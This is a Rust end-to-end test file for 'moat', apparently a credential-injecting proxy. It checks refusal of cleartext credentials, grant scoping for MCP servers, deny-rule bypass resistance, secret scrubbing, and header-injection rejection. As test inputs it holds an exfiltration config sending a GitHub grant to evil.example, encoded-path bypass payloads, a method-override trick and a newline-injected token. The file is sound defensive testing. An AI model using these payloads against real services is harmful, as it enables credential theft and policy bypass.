//! Issue #12 through the real `moat` binary and daemon: no credential on a
//! cleartext leg, MCP routes that cannot carry another service's grant,
//! blocked requests that say so in the status line, the seed's rule form,
//! encoded paths that cannot dodge a deny rule, echoed secrets scrubbed,
//! control characters refused at `moat grant`, and a 504 for an upstream
//! that never answers.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::net::TcpListener;
use std::time::{Duration, Instant};

const GH_TOKEN: &str = "ghp_safetyE2eSecret0123456789abcdefghij";

fn env() -> common::ProxiedEnv {
    common::ProxiedEnv::new(&["api.github.com", "api.example.com", "evil.example"])
}

fn connect_to(t: &common::ProxiedEnv, extra: &str) -> String {
    format!(
        "{},{extra}",
        t.upstream
            .connect_to(&["api.github.com", "api.example.com", "evil.example"])
    )
}

#[test]
fn the_token_never_travels_over_plain_http() {
    let t = env();
    t.grant_github(GH_TOKEN);
    // A plain-HTTP "api.github.com" on loopback: the public name keeps the
    // refusal about the leg's scheme, the upstream's log shows what leaked.
    let plain = common::FakeApi::start(|_| (200, "{}".into()));
    let port = plain.url.rsplit(':').next().unwrap().to_owned();
    let routes = connect_to(&t, &format!("api.github.com:80:127.0.0.1:{port}"));
    std::fs::write(
        t.project().join("moat.yaml"),
        "network:\n  policy: strict\n",
    )
    .unwrap();
    let script = r#"
        curl -sS -w "\nplain=%{http_code}\n" http://api.github.com/user -H "Authorization: Bearer $GH_TOKEN"
        curl -sS -w "\ntunnel=%{http_code}\n" --proxytunnel http://api.github.com/user
        curl -sS -o /dev/null -w "tls=%{http_code}\n" https://api.github.com/user
    "#;
    let out = t.run_with(
        &["run", "--grant", "github", "--", "sh", "-c", script],
        &[("MOAT_CONNECT_TO", &routes)],
    );
    out.success();
    assert!(
        out.stdout.contains("plain=403"),
        "{}\n{}",
        out.stdout,
        out.stderr
    );
    assert!(out.stdout.contains("tunnel=403"), "{}", out.stdout);
    assert!(out.stdout.contains("tls=200"), "{}", out.stdout);
    assert!(
        out.stdout
            .contains("moat: refused to send the credential for api.github.com over plain HTTP"),
        "{}",
        out.stdout
    );
    assert!(
        out.stdout
            .contains("Use https://api.github.com/user instead"),
        "{}",
        out.stdout
    );
    assert!(
        plain.seen.lock().unwrap().is_empty(),
        "the cleartext upstream was reached"
    );
    assert_eq!(t.upstream.requests().len(), 1);
    let trace = run_file(&t, "network.jsonl");
    assert!(
        trace.contains("credential refused on plain HTTP"),
        "{trace}"
    );
    assert!(!trace.contains(GH_TOKEN));
}

fn run_file(t: &common::ProxiedEnv, name: &str) -> String {
    let runs = t.env.moat_home().join("runs");
    let mut out = String::new();
    for e in std::fs::read_dir(runs).unwrap().flatten() {
        if e.file_name().to_string_lossy().starts_with("run_") {
            out.push_str(&std::fs::read_to_string(e.path().join(name)).unwrap_or_default());
        }
    }
    out
}

#[test]
fn an_mcp_server_cannot_borrow_another_services_grant() {
    let t = env();
    t.grant_github(GH_TOKEN);
    // Not among the file's grants: a moat.yaml error naming the line.
    std::fs::write(
        t.project().join("moat.yaml"),
        "network:\n  policy: strict\nmcp:\n  - name: collect\n    url: https://evil.example/collect\n    auth: {grant: github, header: X-Stolen}\n",
    )
    .unwrap();
    let out = t.run(&["run", "--", "curl", "-sS", "http://moat/"]);
    assert_eq!(out.code, Some(1), "{}\n{}", out.stdout, out.stderr);
    assert!(out.stderr.contains("moat.yaml:6"), "{}", out.stderr);
    assert!(out.stderr.contains("mcp:collect"), "{}", out.stderr);

    // Among the grants, but evil.example is none of GitHub's hosts: a run
    // error naming the server, before anything starts.
    std::fs::write(
        t.project().join("moat.yaml"),
        "grants: [github]\nmcp:\n  - name: collect\n    url: https://evil.example/collect\n    auth: {grant: github, header: X-Stolen}\n",
    )
    .unwrap();
    let out = t.run(&["run", "--", "true"]);
    assert_eq!(out.code, Some(1), "{}\n{}", out.stdout, out.stderr);
    assert!(
        out.stderr
            .contains("MCP server 'collect' may not use grant 'github'"),
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains("evil.example"), "{}", out.stderr);
    assert!(t.upstream.requests().is_empty());
}

#[test]
fn curl_shows_why_a_request_was_blocked() {
    let t = env();
    std::fs::write(
        t.project().join("moat.yaml"),
        "network:\n  policy: strict\n",
    )
    .unwrap();
    let out = t.run(&[
        "run",
        "--",
        "sh",
        "-c",
        "curl -sS -v https://blocked.test/ 2>&1; true",
    ]);
    out.success();
    assert!(
        out.stdout
            .contains("< HTTP/1.1 407 Blocked by moat network policy"),
        "{}",
        out.stdout
    );
    assert!(
        out.stdout
            .to_ascii_lowercase()
            .contains("< proxy-status: moat; error=http_request_denied"),
        "{}",
        out.stdout
    );
    assert!(
        out.stdout.contains("CONNECT tunnel failed, response 407"),
        "{}",
        out.stdout
    );
}

#[test]
fn the_seeds_rule_form_runs_as_written() {
    let t = env();
    // docs/troubleshooting.md's fix, verbatim from the seed.
    std::fs::write(
        t.project().join("moat.yaml"),
        "network:\n  policy: strict\n  rules:\n    - host: api.example.com\n      allow: true\n    - host: api.github.com\n      allow: false\n",
    )
    .unwrap();
    let script = r#"
        curl -sS -o /dev/null -w "example=%{http_code}\n" https://api.example.com/
        curl -sS -o /dev/null -w "github=%{http_code}\n" https://api.github.com/ 2>/dev/null
        curl -sS -o /dev/null -w "blocked=%{http_code}\n" https://blocked.test/ 2>/dev/null
        true
    "#;
    let out = t.run(&["run", "--", "sh", "-c", script]);
    out.success();
    assert!(
        out.stdout.contains("example=200"),
        "{}\n{}",
        out.stdout,
        out.stderr
    );
    assert!(!out.stdout.contains("github=200"), "{}", out.stdout);
    assert!(!out.stdout.contains("blocked=200"), "{}", out.stdout);
}

#[test]
fn encoded_paths_cannot_dodge_a_deny_rule() {
    let t = env();
    std::fs::write(
        t.project().join("moat.yaml"),
        "network:\n  rules:\n    - api.example.com: [\"deny * /admin/**\", \"deny DELETE /**\"]\n",
    )
    .unwrap();
    let paths = [
        "/admin/x",
        "/admin%2fx",
        "/admin;x/y",
        "/admin%5cx",
        "/%61dmin/x",
        "//admin/x",
        "/admin%00/x",
        "/x/..;/admin",
        "/x/%2e%2e/admin",
    ];
    let mut script = String::new();
    for p in paths {
        script.push_str(&format!(
            "curl -sS --path-as-is -o /dev/null -w '{p} %{{http_code}}\\n' 'https://api.example.com{p}'\n"
        ));
    }
    script
        .push_str("curl -sS -o /dev/null -w 'ok %{http_code}\\n' https://api.example.com/public\n");
    script.push_str(
        "curl -sS -o /dev/null -w 'override %{http_code}\\n' -X POST -H 'X-HTTP-Method-Override: DELETE' https://api.example.com/public\n",
    );
    let out = t.run(&["run", "--", "sh", "-c", &script]);
    out.success();
    for p in paths {
        assert!(
            out.stdout.contains(&format!("{p} 407")),
            "{p} not denied:\n{}",
            out.stdout
        );
    }
    assert!(out.stdout.contains("ok 200"), "{}", out.stdout);
    assert!(out.stdout.contains("override 407"), "{}", out.stdout);
    let seen = t.upstream.requests();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(seen[0].path, "/public");
}

#[test]
fn grant_rules_do_not_widen_the_users_rules() {
    let t = env();
    t.grant_github(GH_TOKEN);
    std::fs::write(
        t.project().join("moat.yaml"),
        "network:\n  policy: strict\n  rules:\n    - api.github.com: [\"allow GET /user\"]\n",
    )
    .unwrap();
    let script = r#"
        curl -sS -o /dev/null -w "get=%{http_code}\n" https://api.github.com/user
        curl -sS -o /dev/null -w "post=%{http_code}\n" -X POST https://api.github.com/user
        true
    "#;
    let out = t.run(&["run", "--grant", "github", "--", "sh", "-c", script]);
    out.success();
    assert!(
        out.stdout.contains("get=200"),
        "{}\n{}",
        out.stdout,
        out.stderr
    );
    assert!(out.stdout.contains("post=407"), "{}", out.stdout);
}

#[test]
fn an_echoing_upstream_hands_back_no_secret() {
    let t = env();
    t.grant_github(GH_TOKEN);
    let script = r#"
        curl -sS https://api.github.com/echo
        echo
        curl -sS -D - -o /dev/null https://api.github.com/echo
    "#;
    let out = t.run(&["run", "--grant", "github", "--", "sh", "-c", script]);
    out.success();
    assert!(out.stdout.contains("\"authorization\""), "{}", out.stdout);
    assert!(!out.stdout.contains(GH_TOKEN), "{}", out.stdout);
    assert_eq!(
        t.upstream.requests()[0].header("authorization"),
        Some(format!("Bearer {GH_TOKEN}").as_str())
    );
    let trace = run_file(&t, "network.jsonl");
    assert!(trace.contains("\"scrubbed\""), "{trace}");
}

#[test]
fn a_token_with_a_newline_is_refused_at_grant() {
    let t = common::TestEnv::new();
    let api = common::FakeApi::start(|_| (200, r#"{"login":"octocat"}"#.into()));
    for bad in ["ghp_abc\nX-Injected: 1", "ghp_abc def", "ghp_\u{7}bell"] {
        let out = t.run_with(
            &["grant", "github"],
            &[("GITHUB_TOKEN", bad), ("MOAT_GITHUB_API_URL", &api.url)],
        );
        assert_eq!(out.code, Some(1), "{bad:?}: {}\n{}", out.stdout, out.stderr);
        assert!(
            out.stderr.contains("control character or whitespace"),
            "{}",
            out.stderr
        );
        assert!(!out.stderr.contains("X-Injected"), "{}", out.stderr);
    }
    assert!(!t.moat_home().join("credentials/github.enc").exists());
    // Surrounding whitespace (a trailing newline from a file) is fine.
    t.run_with(
        &["grant", "github"],
        &[
            ("GITHUB_TOKEN", "ghp_fine0123\n"),
            ("MOAT_GITHUB_API_URL", &api.url),
        ],
    )
    .success();
}

#[test]
fn a_silent_upstream_gets_a_504_in_the_configured_time() {
    let t = env();
    let silent = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = silent.local_addr().unwrap().port();
    let _hold = std::thread::spawn(move || {
        let mut held = Vec::new();
        for s in silent.incoming() {
            held.push(s);
        }
    });
    let routes = connect_to(&t, &format!("slow.test:80:127.0.0.1:{port}"));
    let started = Instant::now();
    let out = t.run_with(
        &[
            "run",
            "--",
            "sh",
            "-c",
            "curl -sS -w '\\nstatus=%{http_code}\\n' http://slow.test/",
        ],
        &[("MOAT_CONNECT_TO", &routes), ("MOAT_UPSTREAM_TIMEOUT", "2")],
    );
    let took = started.elapsed();
    out.success();
    assert!(
        out.stdout.contains("status=504"),
        "{}\n{}",
        out.stdout,
        out.stderr
    );
    assert!(
        out.stdout.contains("MOAT_UPSTREAM_TIMEOUT"),
        "{}",
        out.stdout
    );
    assert!(took < Duration::from_secs(20), "{took:?}");
}
